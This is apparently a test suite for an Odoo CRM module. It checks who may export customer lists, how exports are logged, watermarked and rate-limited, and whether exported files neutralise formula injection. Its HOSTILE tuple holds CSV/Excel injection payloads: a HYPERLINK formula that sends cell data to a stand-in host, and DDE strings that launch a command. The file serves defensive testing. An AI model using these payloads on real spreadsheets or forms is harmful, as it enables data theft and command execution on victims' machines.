"""Lists leave only with those who may take them, and never unnoticed."""

import csv
import hashlib
import io
import json
import zipfile
from datetime import date, datetime, timedelta
from unittest.mock import patch

import openpyxl

from odoo import Command, http
from odoo.exceptions import AccessError, UserError
from odoo.fields import Date
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from .common import CrmCase

# what a salesperson might type, or an attacker might write into a form
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+8613800138000",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "http://evil.example",
    "a&b<c>\"d'\x0b\x1f",
    "𠮷野家 🏢",
    "x" * 40000,
)


class ExportCase(CrmCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # nobody of the cast may export but who is granted it here
        export = cls.env.ref("base.group_allow_export")
        cls.everybody.group_ids = [Command.unlink(export.id)]
        cls.sam.group_ids = [Command.link(cls.env.ref("crm_base.group_export").id)]
        for user in (cls.sam, cls.sue, cls.boss):
            user.password = user.login + "-password"
        cls.customers = cls.env["res.partner"].browse()
        for number in range(3):
            cls.customers += cls._customer(
                cls.sam, f"客户{number}", phone=f"010-5998411{number}"
            )
        cls.foreign = cls._customer(cls.sue, "别人的客户")

    def _columns(self, *names):
        labels = self.env["res.partner"].fields_get(names, ["string", "type"])
        return [
            {
                "name": name,
                "label": labels[name]["string"],
                "type": labels[name]["type"],
            }
            for name in names
        ]

    def _ask(self, url="/web/export/xlsx", **params):
        values = {
            "model": "res.partner",
            "fields": self._columns("name", "phone", "user_id"),
            "domain": [("is_crm_customer", "=", True)],
            "ids": False,
            "import_compat": False,
            "context": {},
            **params,
        }
        return self.url_open(
            url, data={"data": json.dumps(values), "csrf_token": self._token()}
        )

    def _token(self):
        return http.Request.csrf_token(self)

    def _login(self, user):
        self.authenticate(user.login, user.login + "-password")

    def _sheet(self, response):
        self.assertEqual(response.status_code, 200, response.text[:500])
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        return [list(row) for row in book.active.iter_rows(values_only=True)], book

    def _logs(self):
        return self.env["crm.export.log"].search([])


@tagged("post_install", "-at_install")
class TestExportDoors(ExportCase):
    def test_granted(self):
        """All, a page and a selection reach a file; each is logged. Covers: B19."""
        self._login(self.sam)
        rows, book = self._sheet(self._ask(order="name desc"))
        names = [row[0] for row in rows[1:-1]]
        self.assertEqual(names, ["客户2", "客户1", "客户0"])
        self.assertEqual(rows[1][2], self.sam.name)
        log = self._logs()
        self.assertEqual(log.row_count, 3)
        self.assertEqual(log.user_id, self.sam)
        self.assertEqual((log.model, log.kind), ("res.partner", "xlsx"))
        self.assertIn("phone", log.columns)
        self.assertIn("is_crm_customer", log.domain)
        self.assertTrue(log.ip_address)
        # superiors find it among the operations of their people
        operation = self.env["crm.operation.log"].search([("operation", "=", "export")])
        self.assertEqual(operation.record_count, 3)
        self.assertIn(log.reference, operation.with_user(self.manager).summary)
        # the watermark says who, when and which row of the log
        self.assertIn(log.reference, rows[-1][0])
        self.assertIn(self.sam.login, rows[-1][0])
        self.assertEqual(book.properties.creator, self.sam.name)
        self.assertIn(log.reference, book.active.oddHeader.left.text)
        rows, _book = self._sheet(self._ask(ids=self.customers[1].ids))
        self.assertEqual([row[0] for row in rows[1:-1]], ["客户1"])

    def test_file_hash(self):
        """The log tells whether a file that turns up is the one. Covers: B19."""
        self._login(self.sam)
        for kind in ("xlsx", "csv"):
            response = self._ask(f"/web/export/{kind}")
            log = self._logs()[:1]
            found = hashlib.sha256(response.content).hexdigest()
            self.assertEqual(log.file_hash, found)
            self.assertEqual(log.file_size, len(response.content))

    def test_not_granted(self):
        """Without the right every door is shut, for the boss too. Covers: B19."""
        for user in (self.sue, self.boss):
            self._login(user)
            with mute_logger("odoo.http", "odoo.addons.crm_base.controllers.export"):
                for url in ("/web/export/xlsx", "/web/export/csv", "/crm/export/pdf"):
                    response = self._ask(url)
                    self.assertEqual(response.status_code, 500, url)
                    self.assertIn("AccessError", response.text)
                    self.assertNotIn("客户0", response.text)
                table = json.dumps({"model": "res.partner", "rows": []})
                response = self.url_open(
                    "/web/pivot/export_xlsx",
                    data={"data": table, "csrf_token": self._token()},
                )
                self.assertNotEqual(response.status_code, 200)
                ids = ",".join(map(str, self.foreign.ids + self.sue.partner_id.ids))
                response = self.url_open(f"/web/partner/vcard?partner_ids={ids}")
                self.assertNotEqual(response.status_code, 200)
            with self.assertRaises(AccessError):
                self.foreign.with_user(user).export_data(["name"])
        self.assertFalse(self._logs())

    def test_access_rights_manager(self):
        """Whoever gives out rights may not export by that alone. Covers: B19."""
        user = new_test_user(self.env, "erp", "base.group_erp_manager")
        with self.assertRaises(AccessError):
            user.partner_id.with_user(user).export_data(["name"])

    def test_api(self):
        """export_data over JSON-2 obeys and is logged like the rest. Covers: B19."""
        for user, status in ((self.sam, 200), (self.sue, 403)):
            key = (
                self.env["res.users.apikeys"]
                .with_user(user)
                ._generate("rpc", "test", datetime.now() + timedelta(days=1))
            )
            with mute_logger("odoo.http"):
                response = self.url_open(
                    "/json/2/res.partner/export_data",
                    data=json.dumps(
                        {
                            "ids": self.customers.ids
                            if user == self.sam
                            else self.foreign.ids,
                            "fields_to_export": ["name", "phone"],
                        }
                    ),
                    headers={
                        "Authorization": f"bearer {key}",
                        "Content-Type": "application/json",
                    },
                )
            self.assertEqual(response.status_code, status, response.text)
        self.assertEqual(len(response.json() and self._logs()), 1)
        self.assertEqual((self._logs().kind, self._logs().row_count), ("api", 3))

    def test_scope(self):
        """Nobody exports what the lists do not show. Covers: B19, B02."""
        self._login(self.sam)
        with mute_logger("odoo.http", "odoo.addons.crm_base.controllers.export"):
            response = self._ask(ids=(self.customers + self.foreign).ids)
        self.assertEqual(response.status_code, 500)
        self.assertIn("AccessError", response.text)
        rows, _book = self._sheet(self._ask(domain=[]))
        self.assertNotIn("别人的客户", [row[0] for row in rows])
        # the message that refuses a record does not tell its name
        self.assertNotIn("别人的客户", response.text)

    def test_forbidden_columns(self):
        """Columns of a group one is not in never come. Covers: B19."""
        field = self.env["res.partner"]._fields["phone"]
        with patch.object(field, "groups", "base.group_system"):
            with self.assertRaises(AccessError):
                self.customers.with_user(self.sam).export_data(["phone"])
            with self.assertRaises(AccessError):
                self.customers.with_user(self.sam).export_data(["parent_id/phone"])
        with patch.object(field, "exportable", False), self.assertRaises(AccessError):
            self.customers.with_user(self.sam).export_data(["name", "phone"])
        for wrong in (["nonsense"], ["name/id/x"], ["user_id/password2"], []):
            with self.assertRaises(UserError):
                self.customers.with_user(self.sam).export_data(wrong)

    def test_daily_limit(self):
        """Rows of a day are counted over all doors together. Covers: B19."""
        self.env.company.crm_export_daily_rows = 5
        self._login(self.sam)
        self._sheet(self._ask())
        with mute_logger("odoo.http"):
            response = self._ask("/web/export/csv")
        self.assertEqual(response.status_code, 500)
        self.assertIn("UserError", response.text)
        mine = self.customers.with_user(self.sam)
        mine[:2].export_data(["name"])
        with self.assertRaises(UserError):
            mine[0].export_data(["name"])
        self.assertEqual(sum(self._logs().mapped("row_count")), 5)
        # others have their own allowance, and 0 is no limit
        self.env.company.crm_export_daily_rows = 0
        mine.export_data(["name"])

    def test_log_is_final(self):
        """Nobody writes, changes or deletes the log; the boss reads it. Covers: B19."""
        self.customers.with_user(self.sam).export_data(["name"])
        log = self._logs()
        self.assertEqual(log.with_user(self.boss).row_count, 3)
        with self.assertRaises(AccessError):
            log.with_user(self.sam).read(["row_count"])
        with self.assertRaises(AccessError):
            log.with_user(self.director).read(["row_count"])
        for user in (self.boss, self.env.ref("base.user_admin")):
            theirs = log.with_user(user)
            with self.assertRaises(AccessError):
                theirs.write({"row_count": 0})
            with self.assertRaises(AccessError):
                theirs.unlink()
            with self.assertRaises(AccessError):
                theirs.create({"reference": "x"})
        with self.assertRaises(AccessError):
            log.write({"row_count": 0})
        with self.assertRaises(AccessError):
            log.unlink()


@tagged("post_install", "-at_install")
class TestExportContent(ExportCase):
    def _hostile(self):
        self.sam.company_id.country_id = False
        found = self.env["res.partner"]
        for value in HOSTILE:
            found += self._customer(self.sam, "x", comment=False, mnemonic=value)
        return found

    def test_hostile_xlsx(self):
        """No text of anybody becomes a formula or a link. Covers: B19."""
        hostile = self._hostile()
        self._login(self.sam)
        columns = [{"name": "mnemonic", "label": "=1+1", "type": "char"}]
        response = self._ask(fields=columns, ids=hostile.ids)
        sheet = zipfile.ZipFile(io.BytesIO(response.content)).read(
            "xl/worksheets/sheet1.xml"
        )
        self.assertNotIn(b"<f>", sheet)
        self.assertNotIn(b"hyperlink", sheet.lower().replace(b"=hyperlink", b""))
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = list(book.active["A"])
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
        self.assertEqual(cells[1].value, HOSTILE[0])
        self.assertEqual(cells[-2].value, "x" * 32766 + "…")

    def test_hostile_groups(self):
        """Grouped workbooks are laid out by Odoo, and as harmless. Covers: B19."""
        hostile = self._hostile()
        self._login(self.sam)
        columns = self._columns("mnemonic", "name")
        response = self._ask(
            fields=columns, ids=hostile.ids, groupby=["mnemonic", "create_date:month"]
        )
        self.assertEqual(response.status_code, 200, response.text[:400])
        sheet = zipfile.ZipFile(io.BytesIO(response.content)).read(
            "xl/worksheets/sheet1.xml"
        )
        self.assertNotIn(b"<f>", sheet)
        log = self._logs()
        self.assertEqual((log.kind, log.row_count), ("xlsx", len(HOSTILE)))
        rows, book = self._sheet(response)
        self.assertIn(log.reference, rows[-1][0])
        self.assertIn(log.reference, book.active.oddHeader.left.text)
        digest = hashlib.sha256(response.content).hexdigest()
        self.assertEqual(log.file_hash, digest)

    def test_hostile_csv(self):
        """What looks like a formula is quoted; Excel reads the Chinese. Covers: B19."""
        hostile = self._hostile()
        self._login(self.sam)
        columns = self._columns("mnemonic")
        response = self._ask("/web/export/csv", fields=columns, ids=hostile.ids)
        self.assertTrue(response.content.startswith(b"\xef\xbb\xbf"))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        for value, (cell,) in zip(HOSTILE, rows[1:-1], strict=True):
            self.assertFalse(cell.startswith(tuple("=+-@\t\r＝")), cell)
            self.assertEqual(cell.removeprefix("'"), value)

    def test_hostile_pivot(self):
        """Pivot tables carry no formula either, and are logged. Covers: B19."""
        self._login(self.sam)
        table = {
            "model": "res.partner",
            "title": "Pivot",
            "measure_count": 1,
            "col_group_headers": [[{"title": "=1+1", "width": 1, "height": 1}]],
            "measure_headers": [{"title": "=2+2", "is_bold": True}],
            "rows": [
                {
                    "title": "=3+3",
                    "indent": 0,
                    "values": [{"value": "=4+4"}, {"value": 7}],
                }
            ],
        }
        response = self.url_open(
            "/web/pivot/export_xlsx",
            data={"data": json.dumps(table), "csrf_token": self._token()},
        )
        self.assertEqual(response.status_code, 200)
        sheet = zipfile.ZipFile(io.BytesIO(response.content)).read(
            "xl/worksheets/sheet1.xml"
        )
        self.assertNotIn(b"<f>", sheet)
        self.assertEqual((self._logs().kind, self._logs().row_count), ("pivot", 1))

    def test_values(self):
        """Cells hold what the list shows: local times, names, numbers. Covers: B19."""
        tag = self.env["res.partner.category"].create(
            [{"name": "A甲"}, {"name": "B乙"}]
        )
        customer = self.customers[0]
        customer.write(
            {
                "category_id": [Command.set(tag.ids)],
                "birthday": date(1980, 2, 29),
                "partner_latitude": -31.25,
            }
        )
        customer._crm_workflow().last_followup_at = datetime(2026, 1, 1, 16, 30)
        contact = self._contact(customer)
        self._login(self.sam)
        columns = self._columns(
            "name",
            "category_id",
            "birthday",
            "partner_latitude",
            "last_followup_at",
            "active",
            "type",
            "crm_customer_id",
        )
        columns.append(
            {"name": "crm_customer_id/user_id/name", "label": "所有人", "type": "char"}
        )
        rows, _book = self._sheet(
            self._ask(
                fields=columns,
                ids=(customer + contact).ids,
                context={"lang": "en_US"},
            )
        )
        kinds = dict(
            customer._fields["type"]._description_selection(
                self.env(context={"lang": "en_US"})
            )
        )
        self.assertEqual(
            rows[1],
            [
                customer.name,
                "A甲, B乙",
                datetime(1980, 2, 29),
                -31.25,
                datetime(2026, 1, 2, 0, 30),
                True,
                kinds["contact"],
                customer.name,
                self.sam.name,
            ],
        )
        self.assertEqual(rows[2][0], contact.name)
        self.assertEqual(rows[2][7], customer.name)

    def test_import_compatible(self):
        """A file to be imported again holds nothing but its rows. Covers: B19, B18."""
        self._login(self.sam)
        columns = [{"name": "id", "label": "External ID"}, *self._columns("name")]
        rows, book = self._sheet(self._ask(fields=columns, import_compat=True))
        self.assertEqual(rows[0], ["id", "name"])
        self.assertEqual(len(rows), 1 + len(self.customers))
        self.assertIn(self._logs().reference, book.active.oddHeader.left.text)

    def test_queries(self):
        """The queries of a batch do not grow with its rows. Covers: B19."""
        from ..tools.export_rows import rows  # noqa: PLC0415

        paths = ["name", "user_id", "customer_stage_id", "category_id", "state_id"]
        more = self.env["res.partner"]
        for number in range(30):
            more += self._customer(self.sam, f"更多{number}")

        def count(records):
            self.env.flush_all()
            self.env.invalidate_all()
            records = records.with_user(self.sam).with_context(import_compat=False)
            before = self.env.cr.sql_log_count
            self.assertEqual(len(list(rows(records, paths))), len(records))
            return self.env.cr.sql_log_count - before

        count(more)
        self.assertLessEqual(count(more), count(more[:3]))

    def test_pdf(self):
        """A printed list in Chinese, marked and logged. Covers: B19."""
        self.sam.lang = self.env["res.lang"]._activate_lang("zh_CN").code
        self._login(self.sam)
        more = self.env["res.partner"]
        for number in range(60):
            more += self._customer(self.sam, f"<b>打印{number}</b>")
        response = self._ask("/crm/export/pdf", title="我的客户")
        self.assertEqual(response.status_code, 200, response.text[:300])
        self.assertTrue(response.content.startswith(b"%PDF"))
        log = self._logs()
        self.assertEqual((log.kind, log.row_count), ("pdf", 63))
        self.assertIn("我的客户", log.file_name)
        with mute_logger("odoo.http"):
            many = self._columns("name") * 30
            response = self._ask("/crm/export/pdf", fields=many)
        self.assertIn("UserError", response.text)

    def test_old_days_are_forgotten(self):
        """Counters of past days go, the log stays. Covers: B19."""
        quota = self.env["crm.export.quota"]
        old = quota.create(
            {"user_id": self.sam.id, "day": Date.to_date("2020-01-01"), "rows": 7}
        )
        self.customers.with_user(self.sam).export_data(["name"])
        quota._gc_quotas()
        self.assertFalse(old.exists())
        self.assertEqual(quota.search([("user_id", "=", self.sam.id)]).rows, 3)


@tagged("post_install", "-at_install")
class TestExportScreens(ExportCase):
    browser_size = "1400x900"

    def test_granted(self):
        """The menu takes away a list and prints a selection of it. Covers: B19."""
        self.start_tour("/odoo/my-customers", "crm_base_export", login="sam")
        pdf, xlsx = self._logs()
        self.assertEqual((xlsx.kind, xlsx.row_count), ("xlsx", 3))
        self.assertEqual((pdf.kind, pdf.row_count), ("pdf", 1))
        self.assertIn("customer_no", xlsx.columns)

    def test_not_granted(self):
        """Those without the right are offered nothing. Covers: B19."""
        self.start_tour("/odoo/my-customers", "crm_base_no_export", login="sue")
        self.assertFalse(self._logs())
